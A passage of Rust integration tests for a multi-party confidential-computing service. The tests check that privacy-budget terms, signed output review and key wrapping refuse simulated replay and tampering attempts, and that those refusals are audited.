    let moved = register_with_terms(&w, "bc-t", terms_for("bc-a"), Party::HospitalA);
    assert!(
        matches!(moved, Err(ClientError::Api { code: ApiCode::BadRequest, message: m, .. }) if m.contains("name asset"))
    );
    register_with_terms(&w, "bc-t", terms, Party::HospitalA).unwrap();

    // At proposal, each broken term is named.
    let owner = w.client(Party::ModelOwner);
    let propose =
        |m: &JobManifest| owner.call::<_, JobInfo>("POST", "/v1/jobs", Some(&ProposeJob { manifest: m.clone() }));
    assert!(terms_refusal(propose(&manifest_on(&w, "bc-t", "plain", None))).contains("`privacy`"));
    assert!(terms_refusal(propose(&manifest_on(&w, "bc-t", "greedy", Some(3.5)))).contains("privacy.epsilon_per_job"));
    let mut m = manifest_on(&w, "bc-t", "leak", Some(1.0));
    m.receivers.push(name("mallory"));
    assert!(terms_refusal(propose(&m)).contains("`receivers`"));

    // Two jobs at epsilon 3 each fit the budget of 4 when proposed; the first to receive
    // its keys spends 3, and the second is refused at release: nothing leaves for it.
    let first = propose_approved(&w, &manifest_on(&w, "bc-t", "first", Some(3.0))).unwrap();
    let second = propose_approved(&w, &manifest_on(&w, "bc-t", "second", Some(3.0))).unwrap();
    let claimed = w.worker().claim(&first).unwrap();
    let (_, answer) = w.worker().attest(&first, &claimed.nonce).unwrap();
    assert_eq!(answer.keys.len(), 2);
    let a: AssetInfo = w.client(Party::HospitalA).call::<(), _>("GET", "/v1/assets/bc-t", None).unwrap();
    assert_eq!((a.usage.jobs, a.usage.epsilon_spent), (1, 3.0));
    let r = tr(w.worker().claim(&second));
    assert!(terms_refusal(r).contains("privacy.total_epsilon"));
    w.assert_refused_and_audited(&second, "privacy.total_epsilon");
    // The charge is in the audit log, and a new job asking more than is left is refused.
    assert!(w.audit(Party::HospitalA).iter().any(|(k, d)| *k == AuditKind::LedgerCharged && d.contains("3 charged")));
    assert!(terms_refusal(propose(&manifest_on(&w, "bc-t", "third", Some(1.5)))).contains("1.0000 of 4 is left"));
    propose_approved(&w, &manifest_on(&w, "bc-t", "within", Some(1.0))).unwrap();

    // Terms edited in the store decide nothing.
    w.trust
        .store()
        .write(|tx| {
            use perun_trust::store::TxExt as _;
            let mut rec: perun_trust::records::AssetRecord = tx.get("bc-t")?.unwrap();
            if let Some(t) = rec.terms.as_mut() {
                t.terms.privacy = None;
            }
            tx.put(&rec)
        })
        .unwrap();
    let r = propose(&manifest_on(&w, "bc-t", "edited", None));
    assert!(matches!(r, Err(ClientError::Api { code: ApiCode::Internal, .. })), "{r:?}");
}

#[test]
fn reviewed_outputs_reach_the_receivers_only_once_released_and_the_receipt_binds_them() {
    let Some(mut w) = World::new() else { return };
    let mut terms = terms_for("bc-r");
    terms.review = true;
    register_with_terms(&w, "bc-r", terms, Party::HospitalA).unwrap();
    let info: ServiceInfo = w.anon.call::<(), _>("GET", "/v1/service", None).unwrap();
    let service = perun_seal::keys::parse_recipient(&info.wrap_recipient).unwrap();

    // Runs a job to its finish with an output key wrapped to the service. `lifted`: the
    // wrapped key to deliver instead of one made for this job (the replay attack).
    let run_with = |w: &mut World,
                    tag: &str,
                    lifted: Option<&[u8]>|
     -> (Digest, AssetKey, Result<(), perun_worker::WorkerError>) {
        let job = propose_approved(w, &manifest_on(w, "bc-r", tag, None)).unwrap();
        let claimed = w.worker().claim(&job).unwrap();
        assert_eq!(claimed.review_recipient.as_deref(), Some(info.wrap_recipient.as_str()));
        w.worker().attest(&job, &claimed.nonce).unwrap();
        let key = AssetKey::generate();
        let mut out = perun_proto::OutputInfo {
            name: "model".into(),
            sealed_digest: Digest::of(b"sealed model"),
            location: "/out/model.sealed".into(),
            wrapped_key: None,
        };
        let finish = |o: &perun_proto::OutputInfo| FinishJob {
            outputs: vec![o.clone()],
            model_digest: Some(Digest::of(b"weights")),
            privacy: None,
            attestation: None,
        };
        // Sealed to the receivers directly (no key for the service): refused.
        let direct = w.worker().finish(&job, finish(&out));
        assert!(
            matches!(&direct, Err(perun_worker::WorkerError::Trust(ClientError::Api { code: ApiCode::BadRequest, message: m, .. })) if m.contains("wrapped to this service")),
            "{direct:?}"
        );
        // A key wrapped to the service without naming this job and output: refused.
        let unbound = WrapContext::other("output-key", &[job.as_bytes()]);
        out.wrapped_key = Some(perun_core::HexBytes(
            perun_seal::wrap::wrap(key.to_secret_string().as_bytes(), &service, &unbound).unwrap(),
        ));
        let r = w.worker().finish(&job, finish(&out));
        assert!(
            matches!(&r, Err(perun_worker::WorkerError::Trust(ClientError::Api { code: ApiCode::BadRequest, message: m, .. })) if m.contains("was not made for")),
            "{r:?}"
        );
        let wrapped = match lifted {
            Some(k) => k.to_vec(),
            None => perun_seal::wrap::wrap(
                key.to_secret_string().as_bytes(),
                &service,
                &WrapContext::output_key(&job, "model"),
            )
            .unwrap(),
        };
        out.wrapped_key = Some(perun_core::HexBytes(wrapped));
        let r = w.worker().finish(&job, finish(&out));
        (job, key, r)
    };
    let run = |w: &mut World, tag: &str| -> (Digest, AssetKey) {
        let (job, key, r) = run_with(w, tag, None);
        r.unwrap();
        (job, key)
    };
    let key_path = |job: &Digest| format!("/v1/jobs/{job}/outputs/model/key");

    let (job, key) = run(&mut w, "reviewed");
    let early: Result<OutputKey, _> = w.client(Party::ModelOwner).call::<(), _>("GET", &key_path(&job), None);
    assert!(matches!(early, Err(ClientError::Api { code: ApiCode::Conflict, message: m, .. }) if m.contains("review")));
    let receipt: perun_core::receipt::Envelope =
        w.client(Party::HospitalA).call::<(), _>("GET", &format!("/v1/jobs/{job}/receipt"), None).unwrap();
    let audit_key = w.trust.keys().signing.verifying_key();
    let st = receipt.verify(&audit_key).unwrap();
    assert_eq!(st.predicate.job, job);
    assert_eq!(st.predicate.approvals.len(), 2);
    assert!(st.subject.iter().any(|s| s.sha256_digest() == Some(Digest::of(b"weights"))));
    let att = st.predicate.attestation.as_ref().unwrap();
    assert_eq!(att.attester, "tpm");
    assert!(!att.claims.is_empty());

    let release = |who: Party, digest: Digest| ReviewOutput {
        release: true,
        signature: Some(sign_digest(w.people[who].signing_key(), perun_proto::review::REVIEW_CONTEXT, &digest)),
    };
    let right = perun_proto::review::review_digest(&job, &receipt);
    let review = |who: Party, body: &ReviewOutput| {
        w.client(who).call::<_, JobInfo>("POST", &format!("/v1/jobs/{job}/review"), Some(body))
    };
    // Someone whose terms ask for no review, and a signature over something else: refused.
    assert!(matches!(
        review(Party::ModelOwner, &release(Party::ModelOwner, right)),
        Err(ClientError::Api { code: ApiCode::Forbidden, .. })
    ));
    assert!(matches!(
        review(Party::HospitalA, &release(Party::HospitalA, Digest::of(b"else"))),
        Err(ClientError::Api { code: ApiCode::Forbidden, .. })
    ));
    let done = review(Party::HospitalA, &release(Party::HospitalA, right)).unwrap();
    assert_eq!(done.review.unwrap().outcome, perun_proto::ReviewOutcome::Released);
    let k: OutputKey = w.client(Party::ModelOwner).call::<(), _>("GET", &key_path(&job), None).unwrap();
    let mine = WrapContext::output_for_receiver(&job, "model", w.people[Party::ModelOwner].name());
    let opened = perun_seal::wrap::unwrap(&k.wrapped_key, w.people[Party::ModelOwner].age_identity(), &mine).unwrap();
    assert_eq!(&opened[..], key.to_secret_string().as_bytes());
    // The receiver's copy is bound to this job: read as another job's, it is refused.
    let elsewhere =
        WrapContext::output_for_receiver(&Digest::of(b"another job"), "model", w.people[Party::ModelOwner].name());
    assert!(perun_seal::wrap::unwrap(&k.wrapped_key, w.people[Party::ModelOwner].age_identity(), &elsewhere).is_err());
    // No party ever sees the key wrapped to the service: not in the job, not in a list.
    for who in [Party::HospitalA, Party::ModelOwner, Party::Infra] {
        let info: JobInfo = w.client(who).call::<(), _>("GET", &format!("/v1/jobs/{job}"), None).unwrap();
        assert!(info.under_review && info.outputs.iter().all(|o| o.wrapped_key.is_none()), "{who:?}");
        let all: Vec<JobInfo> = w.client(who).call::<(), _>("GET", "/v1/jobs", None).unwrap();
        assert!(all.iter().flat_map(|j| &j.outputs).all(|o| o.wrapped_key.is_none()), "{who:?}");
    }

    // Only the receiver gets it; a released review cannot be refused afterwards.
    assert!(w.client(Party::HospitalA).call::<(), OutputKey>("GET", &key_path(&job), None).is_err());
    assert!(review(Party::HospitalA, &ReviewOutput { release: false, signature: None }).is_err());

    // The replay of issue 31: a party lifts the victim job's wrapped output key (from the
    // worker's disk, or a listing of old) and has its own job's worker deliver it as that
    // job's output, to have the service rewrap it to the thief's receivers. The key names
    // the victim job: refused, nothing stored, nothing rewrapped, no review opened.
    let victim = w.trust.store().read(|tx| {
        use perun_trust::store::TxExt as _;
        tx.get::<perun_trust::records::JobRecord>(&job.to_string())
    });
    let lifted = victim.unwrap().unwrap().outputs[0].wrapped_key.clone().unwrap();
    let (thief, _, r) = run_with(&mut w, "thief", Some(&lifted.0));
    assert!(
        matches!(&r, Err(perun_worker::WorkerError::Trust(ClientError::Api { code: ApiCode::BadRequest, message: m, .. })) if m.contains("was not made for")),
        "{r:?}"
    );
    let stored = w.trust.store().read(|tx| {
        use perun_trust::store::TxExt as _;
        tx.get::<perun_trust::records::JobRecord>(&thief.to_string())
    });
    let stored = stored.unwrap().unwrap();
    assert!(stored.outputs.is_empty() && stored.output_keys.is_empty() && stored.review.is_none());
    assert_ne!(stored.state, JobState::Finished);

    // A refused review: the key never reaches the receivers.
    let (refused, _) = run(&mut w, "refused");
    // A release signed for the first job's receipt, replayed into this job's review: it
    // covers another job and receipt, so it releases nothing here.
    let signature = sign_digest(w.people[Party::HospitalA].signing_key(), perun_proto::review::REVIEW_CONTEXT, &right);
    let body = ReviewOutput { release: true, signature: Some(signature) };
    let replayed: Result<JobInfo, _> =
        w.client(Party::HospitalA).call("POST", &format!("/v1/jobs/{refused}/review"), Some(&body));
    assert!(
        matches!(&replayed, Err(ClientError::Api { code: ApiCode::Forbidden, message: m, .. }) if m.contains("does not cover")),
        "{replayed:?}"
    );
    let no = ReviewOutput { release: false, signature: None };
    let r: JobInfo = w.client(Party::HospitalA).call("POST", &format!("/v1/jobs/{refused}/review"), Some(&no)).unwrap();
    assert_eq!(r.review.unwrap().outcome, perun_proto::ReviewOutcome::Refused);
    let got: Result<OutputKey, _> = w.client(Party::ModelOwner).call::<(), _>("GET", &key_path(&refused), None);
    assert!(matches!(got, Err(ClientError::Api { code: ApiCode::Forbidden, .. })));
    let stored = w.trust.store().read(|tx| {
        use perun_trust::store::TxExt as _;
        tx.get::<perun_trust::records::JobRecord>(&refused.to_string())
    });
    assert!(stored.unwrap().unwrap().output_keys.is_empty(), "no key may be wrapped to a receiver");
    assert!(w.audit(Party::HospitalA).iter().any(|(k, d)| *k == AuditKind::OutputReviewed && d.contains("refused")));
}
